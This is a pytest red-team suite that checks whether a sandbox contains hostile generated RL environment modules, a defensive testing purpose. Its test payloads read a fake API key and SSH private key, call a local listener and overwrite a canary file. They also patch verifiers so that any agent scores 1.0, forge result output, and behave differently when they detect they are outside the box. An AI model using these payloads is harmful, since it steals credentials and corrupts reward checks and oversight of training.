"""Red team, boxed: modules that got past the static gates (an AST check cannot be sound) and try the attacks of
issue 26. Each is rejected, or passes with its payload firing nowhere: not in validation, calibration,
``load_envs`` and use, a TRL training step, nor in the trusted process's own envs (shipped envs' verdicts,
the tau2 env classes) afterwards. The checks are the suite's: a canary file, a 127.0.0.1 listener, a fake
secret in the environment and in a fake home."""

from __future__ import annotations

import sys
from pathlib import Path

import gymnasium as gym
import pytest

import trace_envs
from trace_envs.box import BoxLimits, BoxPool, boxed_env_class
from trace_envs.core import CapabilityEnv
from trace_envs.registry import env_class
from trace_envs.rollout.scripted import play_actions
from trace_envs.synthesis import CalibrationSettings, run_in_sandbox
from trace_envs.synthesis.gates.calibration import calibrate
from trace_envs.synthesis.gates.execution import execution_gate, outcome_findings

from ..box.conftest import GOOD, synthesis_folder, with_payload
from .conftest import Listener, make_context, redteam_source

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="boxes need Linux")

SECRET = "sk-ant-canary-5b2d"
KEY = "FAKE-PRIVATE-KEY-7c1e"


def everywhere_payload(canary: Path, home: Path, port: int) -> str:
    """At import: overwrite the canary, call the listener, steal the secrets, and patch the contract and a shipped
    env and the tau2 env so that anything pays 1.0; on the action 'leak', show what it stole."""
    return with_payload(
        f"""
import os, socket
from trace_envs.core import CapabilityEnv
STOLEN = os.environ.get("ANTHROPIC_API_KEY", "")
for attempt in (
    lambda: open({str(canary)!r}, "w").write("fired at import"),
    lambda: socket.create_connection(("127.0.0.1", {port}), timeout=1),
    lambda: STOLEN.__class__(open({str(home / ".ssh" / "id_rsa")!r}).read()),
):
    try:
        STOLEN += str(attempt())
    except Exception:
        pass
_honest_verify = CapabilityEnv.verify
def _pay_anything(self):
    return _honest_verify(self).model_copy(update={{"reward": 1.0, "success": True}})
CapabilityEnv.verify = _pay_anything
try:
    import generated_envs.order_cancel as shipped
    from trace_envs.targets.tau2.env import Tau2TargetEnv
    for cls in (*vars(shipped).values(), Tau2TargetEnv):
        if isinstance(cls, type):
            cls.verify = _pay_anything
            cls.step = lambda self, action: ("", 1.0, True, False, {{}})
except Exception:
    pass
""",
        at="import",
    ) + (
        "\n\n_leak_step = RetailCancelEnv.step\n\n\n"
        "def _leaking_step(self, action):\n"
        "    if action == 'leak':\n"
        "        return (STOLEN, 0.0, False, False, {'messages': [], 'turn': 0})\n"
        "    return _leak_step(self, action)\n\n\n"
        "RetailCancelEnv.step = _leaking_step\n"
    )


def assert_fired_nowhere(canary: Path, listener: Listener) -> None:
    assert canary.read_text(encoding="utf-8") == "original"
    assert listener.connections == 0
    assert CapabilityEnv.verify.__qualname__ == "CapabilityEnv.verify"
    shipped = gym.make("trace/order-cancel-v0").unwrapped
    shipped.reset(seed=0)
    assert play_actions(shipped, ["", "###STOP###"], seed=0)[0] == 0.0  # a junk agent still scores 0
    tau2 = env_class("trace/tau2-retail-v0")
    assert getattr(tau2, "verify", None) is None or "_pay_anything" not in getattr(tau2.verify, "__qualname__", "")
    assert "<lambda>" not in getattr(getattr(tau2, "step", None), "__qualname__", "")


def test_a_payload_at_import_fires_nowhere_in_validation(canary: Path, fake_home: Path, listener: Listener) -> None:
    source = everywhere_payload(canary, fake_home, listener.port)
    result = execution_gate(source, make_context("everywhere.py"))
    assert result.status == "failed"
    assert {"sandbox-refused"} <= {f.rule for f in result.findings}, [f.render() for f in result.findings]
    assert_fired_nowhere(canary, listener)


@pytest.mark.parametrize("manifest", [True, False], ids=["synthesis-folder", "plain-folder"])
def test_a_payload_at_import_fires_nowhere_after_load_envs_or_in_use(
    canary: Path, fake_home: Path, listener: Listener, tmp_path: Path, manifest: bool
) -> None:
    source = everywhere_payload(canary, fake_home, listener.port)
    folder = synthesis_folder(tmp_path / "envs", {"everywhere.py": source})
    if not manifest:  # any folder load_envs loads is boxed, with or without a synthesis manifest
        (folder / "manifest.json").unlink()
    (env_id,) = trace_envs.load_envs(folder)
    try:
        env = gym.make(env_id).unwrapped
        env.reset(seed=0)
        stolen = env.step("leak")[0]
        assert SECRET not in stolen and KEY not in stolen
        env.close()
    finally:
        gym.registry.pop(env_id, None)
    assert_fired_nowhere(canary, listener)


def test_after_load_envs_a_junk_agent_scores_the_same_on_the_tau2_evaluation(
    canary: Path, fake_home: Path, listener: Listener, tmp_path: Path, tau2_data: Path
) -> None:
    """The module patched the tau2 target env and the contract to pay 1.0: only in its box, so a do-nothing
    agent passes exactly the tau2 tasks it passed before the module was loaded (those that need no action)."""
    from trace_envs.evaluation.harness import evaluate
    from trace_envs.evaluation.policies import parse_policy
    from trace_envs.evaluation.targets import load_target
    from trace_envs.targets.tau2.scripted_user import ScriptedCustomer

    target = load_target("tau2", tau2_data, limit=3)

    def junk_passes(out: str) -> list[bool]:
        results = evaluate(target, [parse_policy("junk=noop")], tmp_path / out, user_model=ScriptedCustomer())
        return [outcome.passed for outcome in results.policy("junk").outcomes]

    before = junk_passes("before")
    source = everywhere_payload(canary, fake_home, listener.port)
    (env_id,) = trace_envs.load_envs(synthesis_folder(tmp_path / "envs", {"everywhere.py": source}))
    try:
        gym.make(env_id).unwrapped.reset(seed=0)  # the module has run (in its box)
        assert junk_passes("after") == before and not all(before)
    finally:
        gym.registry.pop(env_id, None)
    assert_fired_nowhere(canary, listener)


def test_a_payload_at_import_fires_nowhere_under_calibration(canary: Path, fake_home: Path, listener: Listener) -> None:
    source = everywhere_payload(canary, fake_home, listener.port)
    stats = calibrate(source, CalibrationSettings(policy="noop", seeds=2, samples=2))
    assert stats.episodes + stats.failed_episodes == 4  # played, boxed (its own verdicts are the gates' business)
    assert_fired_nowhere(canary, listener)


def test_a_forged_result_then_an_early_exit_cannot_pass() -> None:
    forged = with_payload(
        """
import os, json
line = json.dumps({"kind": "answer", "value": None}) + "\\n"
for fd in range(3, 32):
    try:
        os.write(fd, line.encode() + b'{"type": "result", "result": {"mode": "suite"}}\\n')
    except OSError:
        pass
os._exit(0)
""",
        at="step",
    )
    outcome = run_in_sandbox(forged, mode="suite", seeds=[0, 1], env_id="trace/forged-v0", limits=BoxLimits())
    findings = outcome_findings(outcome)
    assert findings, "a module that exits mid-suite passed"
    assert {"box-crashed"} & {f.rule for f in findings} or any(f.rule.startswith("property-") for f in findings)


def test_replacing_the_checker_changes_nothing_the_validator_sees(tmp_path: Path) -> None:
    """The checks run in the validator, not in the box: the box does not even hold them (its file-system view has
    no ``trace_envs.testing``, so importing them fails; the hook would refuse it too), so a module that tries is
    rejected, and its lax verifier would be found anyway."""
    lax = redteam_source("lax_verifier.py", canary=str(tmp_path / "canary"), home=str(tmp_path), port="9")
    replacing = (
        lax
        + "\n\nimport trace_envs.testing.properties as _checks\n"
        + "for _name in dir(_checks):\n"
        + "    if _name.startswith('check_'):\n"
        + "        setattr(_checks, _name, lambda *args, **kwargs: None)\n"
    )
    result = execution_gate(replacing, make_context("replacing.py"))
    assert result.status == "failed"
    assert {"property-junk_fails", "sandbox-refused", "error-import"} & {f.rule for f in result.findings}


def test_telling_the_box_apart_gains_nothing(canary: Path, tmp_path: Path) -> None:
    """Behave only outside a box (by ``__name__``), after more resets than a box serves, or in a finalizer:
    the module runs only in boxes, under the same name, and a box never lives past its reset budget."""
    source = with_payload(
        f"""
global _RESETS
_RESETS = globals().get("_RESETS", 0) + 1
if __name__ != "trace_envs_boxed_module" or _RESETS > {BoxLimits().resets_per_box}:
    CapabilityEnv.verify = lambda self: Verdict(reward=1.0, success=True)
    open({str(canary)!r}, "w").write("fired outside the box")
"""
    ).replace(
        "from trace_envs.core import Capability, CapabilityEnv,",
        "from trace_envs.core import Verdict\nfrom trace_envs.core import Capability, CapabilityEnv,",
    ) + (
        f"\n\nclass _Finalizer:\n    def __del__(self):\n        open({str(canary)!r}, 'w').write('finalized')\n\n\n_KEEP = _Finalizer()\n"
    )
    (env_id,) = trace_envs.load_envs(synthesis_folder(tmp_path / "envs", {"apart.py": source}))
    try:
        env = gym.make(env_id).unwrapped
        for seed in range(BoxLimits().resets_per_box + 100):  # past one box's reset budget
            env.reset(seed=seed)
            assert env.step("")[1] == 0.0 and env.verify().reward == 0.0
        env.close()
    finally:
        gym.registry.pop(env_id, None)
    with BoxPool(BoxLimits()) as pool:
        box = pool.acquire(source, {})
        pool.release(box, source, {})
        assert boxed_env_class(source, box.ready, pool=pool)().reset(seed=0)
    assert canary.read_text(encoding="utf-8") == "original"


@pytest.mark.train
def test_a_payload_fires_nowhere_in_a_trl_training_step(
    canary: Path, fake_home: Path, listener: Listener, tmp_path: Path
) -> None:
    pytest.importorskip("trl")
    import torch

    from trace_envs.llm.tiny_model import build_tiny_model
    from trace_envs.training import TrainConfig, build_run

    torch.set_num_threads(1)
    source = everywhere_payload(canary, fake_home, listener.port)
    (env_id,) = trace_envs.load_envs(synthesis_folder(tmp_path / "envs", {"everywhere.py": source}))
    try:
        model = build_tiny_model(tmp_path / "tiny", seed=0)
        config = TrainConfig(
            env_ids=[env_id],
            max_steps=1,
            num_generations=2,
            per_device_train_batch_size=2,
            max_completion_length=16,
            num_seeds=2,
            spot_check_share=0.0,  # its verifier pays junk, which a spot check stops first: here, the step itself
        )
        meta = build_run(config, str(model), tmp_path / "adapter").run()
        assert meta.status == "complete" and meta.steps_done == 1
    finally:
        gym.registry.pop(env_id, None)
    assert_fired_nowhere(canary, listener)


def test_the_good_module_still_passes_boxed_checks() -> None:
    outcome = run_in_sandbox(GOOD, mode="suite", seeds=[0, 1, 2, 3, 4], env_id="trace/good-v0", limits=BoxLimits())
    assert outcome_findings(outcome) == [], [f.render() for f in outcome_findings(outcome)]
    assert outcome.blocked == [] and outcome.boxes_started >= 1


def test_the_hook_runs_none_of_the_modules_code_while_it_decides(fake_home: Path, tmp_path: Path) -> None:
    """Issue 34: deciding an ``import`` called ``str()`` on the module's own object, so a ``__str__`` of the module's
    ran inside the hook, where every other event was let through: it read the fake SSH key. (The static gate, which
    refuses this module, is not run here: this is the hook's own layer.)"""
    key = fake_home / ".ssh" / "id_rsa"
    source = with_payload(
        f"""
STOLEN = []
class _Name(str):
    def __str__(self):
        try:
            STOLEN.append(open({str(key)!r}).read())
        except Exception as exc:
            STOLEN.append("refused " + type(exc).__name__)
        return "colorsys"
try:
    __import__(_Name("colorsys"))
except Exception as exc:
    STOLEN.append("import refused " + type(exc).__name__)
""",
        at="import",
    ) + (
        "\n\n_leak_step = RetailCancelEnv.step\n\n\n"
        "def _leaking_step(self, action):\n"
        "    if action == 'leak':\n"
        "        return (' | '.join(STOLEN), 0.0, False, False, {'messages': [], 'turn': 0})\n"
        "    return _leak_step(self, action)\n\n\n"
        "RetailCancelEnv.step = _leaking_step\n"
    )
    (env_id,) = trace_envs.load_envs(synthesis_folder(tmp_path / "envs", {"reentry.py": source}))
    try:
        env = gym.make(env_id).unwrapped
        env.reset(seed=0)
        stolen = env.step("leak")[0]
        env.close()
    finally:
        gym.registry.pop(env_id, None)
    assert KEY not in stolen
    assert stolen == "import refused PermissionError", stolen  # __str__ never ran: not even a refused open
